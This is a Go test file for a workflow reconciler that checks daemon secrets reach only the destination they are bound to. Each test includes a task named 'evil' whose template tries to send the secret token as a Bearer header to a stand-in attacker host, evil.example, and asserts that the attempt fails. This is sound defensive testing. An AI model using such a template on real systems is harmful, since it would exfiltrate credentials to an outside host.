package flow_test

import (
	"context"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/reconcilerhq/reconciler/engine"
	"github.com/reconcilerhq/reconciler/engine/flow"
	"github.com/reconcilerhq/reconciler/internal/configmap"
	"github.com/reconcilerhq/reconciler/internal/secretdest"
	"github.com/reconcilerhq/reconciler/ports"
	"github.com/reconcilerhq/reconciler/ports/porttest"
	"github.com/reconcilerhq/reconciler/reconcile/release"
	"github.com/reconcilerhq/reconciler/workflow"
)

// hookLog records the webhook requests sent, by URL.
type hookLog struct {
	mu   sync.Mutex
	sent map[string]ports.WebhookRequest
}

func (h *hookLog) Send(_ context.Context, r ports.WebhookRequest) (ports.WebhookResponse, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.sent[r.URL] = r
	return ports.WebhookResponse{Status: 200}, nil
}

// runWithSecret starts workflow w of template tmpl with the sensitive
// variable TOKEN (env:RECONCILER_SECRET_HOOK), runs it to its end and
// returns its status.
func runWithSecret(t *testing.T, c *flow.Controller, eng *engine.Engine, clock *porttest.FakeClock, tmpl string) flow.Status {
	t.Helper()
	ctx := t.Context()
	_, err := c.Start(ctx, flow.StartParams{ID: "w", Template: []byte(tmpl),
		Variables: map[string]release.Value{"TOKEN": {Sensitive: &release.SecretRef{Ref: "env:RECONCILER_SECRET_HOOK"}}}})
	require.NoError(t, err)
	for range 10 {
		_, err = eng.Drain(ctx)
		require.NoError(t, err)
		clock.Advance(time.Minute)
	}
	st, err := c.Status(ctx, "w")
	require.NoError(t, err)
	return st
}

// TestWorkflowSecretsGoOnlyToTheirBoundDestination: a write token starts a
// workflow whose sensitive variable names a daemon secret; its webhook
// task to the bound host gets the value, the one to a host of the
// token's choosing fails naming the reference, the destination and the
// flag, and sends nothing (issue 28, finding 1, through workflows).
func TestWorkflowSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
	t.Parallel()
	c, eng, clock := setupController(t, stores["memory"])
	hooks := &hookLog{sent: map[string]ports.WebhookRequest{}}
	policy, err := secretdest.Parse("env:RECONCILER_SECRET_HOOK=https://hooks.example")
	require.NoError(t, err)
	c.Webhooks = hooks
	c.Secrets = secretdest.Resolver{Next: configmap.Secrets{"env:RECONCILER_SECRET_HOOK": "s3cret"}, Policy: policy}
	tmpl := `{"apiVersion":"reconciler.dev/v1","kind":"WorkflowTemplate","metadata":{"name":"t"},"spec":{"tasks":[
		{"name":"bound","type":"webhook","webhook":{"url":"https://hooks.example/deploy","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}},
		{"name":"evil","type":"webhook","webhook":{"url":"https://evil.example/x","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}}]}}`
	st := runWithSecret(t, c, eng, clock, tmpl)
	hooks.mu.Lock()
	defer hooks.mu.Unlock()
	require.Equal(t, "Bearer s3cret", hooks.sent["https://hooks.example/deploy"].Headers["Authorization"])
	require.NotContains(t, hooks.sent, "https://evil.example/x", "nothing is sent to the unbound host")
	found := false
	for _, r := range st.TaskRuns {
		if r.Task == "evil" {
			found = true
			require.Equal(t, workflow.TaskFailed, r.Phase)
			require.Contains(t, r.Message, "env:RECONCILER_SECRET_HOOK")
			require.Contains(t, r.Message, "https://evil.example")
			require.Contains(t, r.Message, "--secret-destination")
			require.NotContains(t, r.Message, "s3cret")
		}
	}
	require.True(t, found, "the evil task ran")
}

// probeLog is an http verifier that records the headers it was given, by
// URL.
type probeLog struct {
	mu      sync.Mutex
	headers map[string]any
}

func (*probeLog) Type() string { return "http" }

func (p *probeLog) Measure(_ context.Context, r ports.MeasureRequest) (any, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	url, _ := r.Metric.Provider.Config["url"].(string)
	p.headers[url] = r.Metric.Provider.Config["headers"]
	return map[string]any{"status": 200.0}, nil
}

// TestWorkflowVerificationSecretsGoOnlyToTheirBoundDestination: a
// verification metric's revealed secret goes to its provider's url only
// when bound there; the other metric's task fails naming the flag.
func TestWorkflowVerificationSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
	t.Parallel()
	c, eng, clock := setupController(t, stores["memory"])
	probes := &probeLog{headers: map[string]any{}}
	policy, err := secretdest.Parse("env:RECONCILER_SECRET_HOOK=https://status.example")
	require.NoError(t, err)
	c.Verifiers = map[string]ports.Verifier{"http": probes}
	c.Secrets = secretdest.Resolver{Next: configmap.Secrets{"env:RECONCILER_SECRET_HOOK": "s3cret"}, Policy: policy}
	metric := func(url string) string {
		return `{"name":"m","successCondition":"result.status == 200","provider":{"type":"http","url":"` + url +
			`","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}}`
	}
	tmpl := `{"apiVersion":"reconciler.dev/v1","kind":"WorkflowTemplate","metadata":{"name":"t"},"spec":{"tasks":[
		{"name":"bound","type":"verification","verification":{"metrics":[` + metric("https://status.example/health") + `]}},
		{"name":"evil","type":"verification","verification":{"metrics":[` + metric("https://evil.example/x") + `]}}]}}`
	st := runWithSecret(t, c, eng, clock, tmpl)
	probes.mu.Lock()
	defer probes.mu.Unlock()
	require.Equal(t, map[string]any{"Authorization": "Bearer s3cret"}, probes.headers["https://status.example/health"])
	require.NotContains(t, probes.headers, "https://evil.example/x")
	phases := map[string]workflow.TaskPhase{}
	for _, r := range st.TaskRuns {
		phases[r.Task] = r.Phase
		if r.Task == "evil" {
			require.Contains(t, r.Message, "--secret-destination")
		}
	}
	require.Equal(t, map[string]workflow.TaskPhase{"bound": workflow.TaskSucceeded, "evil": workflow.TaskFailed}, phases)
}
